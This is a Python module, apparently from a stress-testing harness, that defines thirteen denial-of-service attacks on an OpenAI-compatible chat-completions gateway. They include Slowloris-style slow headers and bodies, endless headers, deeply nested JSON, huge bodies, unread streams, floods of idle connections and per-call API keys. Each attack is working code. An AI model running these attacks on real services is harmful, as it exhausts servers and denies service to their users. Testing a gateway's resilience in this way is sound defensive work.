"""What attackers do, by name. Each attack is bounded in connections, and goes on until it is
cancelled."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Final
from urllib.parse import urlsplit

# Seconds between the pieces of slow attacks, and before a lost connection is made again.
_SLOW_S: Final = 1.0
_AGAIN_S: Final = 0.05
_TINY: Final = b'{"role":"user","content":"hi"}'


@dataclass(frozen=True, slots=True)
class Target:
    """Where attacks go. model: served by an engine that the honest client's calls do not use."""

    host: str
    port: int
    model: str

    @classmethod
    def at(cls, url: str, model: str) -> Target:
        """The target at a base URL."""
        parts = urlsplit(url)
        return cls(parts.hostname or "127.0.0.1", parts.port or 80, model)

    def head(self, length: int | None = None, key: str = "attacker") -> bytes:
        """The head of a call, without its end where `length` (of its body, bytes) is None."""
        lines = (
            f"POST /v1/chat/completions HTTP/1.1\r\nHost: {self.host}:{self.port}\r\n"
            f"Authorization: Bearer {key}\r\nContent-Type: application/json\r\n"
        )
        return (lines if length is None else f"{lines}Content-Length: {length}\r\n\r\n").encode()

    def call(self, key: str = "attacker", **more: object) -> bytes:
        """A small call."""
        messages = [{"role": "user", "content": "hi"}]
        body = json.dumps({"model": self.model, "messages": messages, "max_tokens": 1, **more})
        return self.head(len(body), key) + body.encode()

    def body_of(self, size: int) -> bytes:
        """A call of about `size` bytes of tiny messages."""
        count = size // (len(_TINY) + 1)
        begun = f'{{"model":"{self.model}","max_tokens":1,"messages":['.encode()
        body = begun + b",".join([_TINY] * count) + b"]}"
        return self.head(len(body)) + body


Attack = Callable[[Target], Awaitable[None]]
_Client = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def _clients(target: Target, count: int, client: _Client) -> None:
    """So many connections at once, each made again once it is lost."""

    async def one() -> None:
        while True:
            writer = None
            with contextlib.suppress(OSError, asyncio.IncompleteReadError, ValueError):
                reader, writer = await asyncio.open_connection(target.host, target.port)
                await client(reader, writer)
            if writer is not None:
                writer.close()
            await asyncio.sleep(_AGAIN_S)

    await asyncio.gather(*(one() for _ in range(count)))


async def _answer(reader: asyncio.StreamReader) -> bytes:
    """One whole answer."""
    head = await reader.readuntil(b"\r\n\r\n")
    length = head.lower().partition(b"content-length:")[2].split(b"\r\n")[0]
    return await reader.readexactly(int(length))


async def _drip(writer: asyncio.StreamWriter, piece: bytes) -> None:
    while not writer.is_closing():
        writer.write(piece)
        await writer.drain()
        await asyncio.sleep(_SLOW_S)


async def _pour(writer: asyncio.StreamWriter, piece: bytes) -> None:
    while not writer.is_closing():
        writer.write(piece)
        await writer.drain()


async def endless_headers(target: Target) -> None:
    """Heads whose headers do not end."""
    lines = b"".join(b"x-%d: %b\r\n" % (number, b"a" * 1000) for number in range(64))

    async def client(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(target.head())
        await _pour(writer, lines)

    await _clients(target, 8, client)


async def one_endless_header(target: Target) -> None:
    """Heads with one header that does not end."""

    async def client(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(target.head() + b"x-long: ")
        await _pour(writer, b"a" * 65536)

    await _clients(target, 8, client)


async def many_headers(target: Target) -> None:
    """Heads of 60 KB in headers of four bytes."""
    request = target.head() + b"a: b\r\n" * 10_000 + b"\r\n"

    async def client(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(request)
        await writer.drain()
        await _answer(reader)

    await _clients(target, 8, client)


async def slow_heads(target: Target) -> None:
    """Slowloris: a header a second."""

    async def client(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(target.head())
        await _drip(writer, b"a: b\r\n")

    await _clients(target, 500, client)


async def slow_bodies(target: Target) -> None:
    """A byte of the body a second."""

    async def client(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(target.head(1_000_000) + b"{")
        await _drip(writer, b" ")

    await _clients(target, 500, client)


def _tiny_messages(size: int, count: int) -> Attack:
    async def attack(target: Target) -> None:
        request = target.body_of(size)

        async def client(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            while True:
                writer.write(request)
                await writer.drain()
                await _answer(reader)

        await _clients(target, count, client)

    attack.__doc__ = f"{count} connections with bodies of tiny messages, {size:,} bytes each."
    return attack


async def deep_bodies(target: Target) -> None:
    """Bodies of nested lists, as deep as can be parsed and deeper."""
    bodies = [
        b'{"model":"%b","%b":%b}' % (target.model.encode(), name, b"[" * deep + b"]" * deep)
        for name in (b"messages", b"prompt", b"input", b"tools")
        for deep in (900, 500_000)
    ]
    requests = itertools.cycle([target.head(len(body)) + body for body in bodies])

    async def client(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            writer.write(next(requests))
            await writer.drain()
            await _answer(reader)

    await _clients(target, 8, client)


async def slow_readers(target: Target) -> None:
    """Streams that nobody reads."""
    request = target.call(stream=True, max_tokens=1_000_000)

    async def client(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        # What has come is not read, which the transport then stops taking in.
        transport = writer.transport
        assert isinstance(transport, asyncio.ReadTransport)
        transport.pause_reading()
        writer.write(request)
        await _drip(writer, b"")

    await _clients(target, 64, client)


async def idle_connections(target: Target) -> None:
    """More connections than the gateway takes, which send nothing."""

    async def client(reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
        await reader.read()

    await _clients(target, 5000, client)


async def connection_flood(target: Target) -> None:
    """Connections that come and go without a request."""

    async def client(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.transport.abort()

    await _clients(target, 100, client)


async def many_keys(target: Target) -> None:
    """Small calls, each with an API key of its own."""
    numbers = itertools.count()

    async def client(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while True:
            writer.write(target.call(f"key-{next(numbers)}"))
            await writer.drain()
            await _answer(reader)

    await _clients(target, 16, client)


ATTACKS: Final[dict[str, Attack]] = {
    "endless headers": endless_headers,
    "one endless header": one_endless_header,
    "many headers": many_headers,
    "slow heads": slow_heads,
    "slow bodies": slow_bodies,
    "1 MB of tiny messages": _tiny_messages(1_000_000, 8),
    "5 MB of tiny messages": _tiny_messages(5_000_000, 8),
    "24 MB of tiny messages": _tiny_messages(24_000_000, 4),
    "deep bodies": deep_bodies,
    "slow readers": slow_readers,
    "idle connections": idle_connections,
    "connection flood": connection_flood,
    "many keys": many_keys,
}
